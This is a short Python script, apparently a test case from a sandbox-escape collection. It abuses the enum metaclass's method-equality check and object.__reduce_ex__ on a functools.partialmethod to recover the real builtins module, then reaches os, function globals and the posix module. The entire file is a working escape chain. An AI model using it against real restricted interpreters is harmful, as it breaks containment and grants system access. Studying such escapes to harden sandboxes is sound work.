# technique: EnumType.__new__ checks 'found_method in (data_type_method, object_method)'; a mixin whose __reduce_ex__ is an object with __eq__ receives getattr(object, '__reduce_ex__'); object.__reduce_ex__(partial, 2) returns the partial's real __dict__, where functools.partialmethod(staticmethod(print)).__get__ stored print.__self__ (the real builtins module)
# expect: any
import enum, functools, json
got = []
class Spy:
    def __eq__(self, other):
        got.append(other)
        return False
    __hash__ = object.__hash__
Mixin = type("Mixin", (), {"__reduce_ex__": Spy()})
class E(Mixin, enum.Enum):
    A = 1
red = got[0]
print(type(red), red)
p = functools.partialmethod(staticmethod(print)).__get__(None, object)
bi = red(p, 2)[2][3]["__self__"]
print(type(bi), bi)
g = bi.getattr(json.dumps, "__globals__")
print(type(g), bi.getattr(bi, "__import__")("os"), bi.getattr(g["codecs"], "sys").modules["posix"])
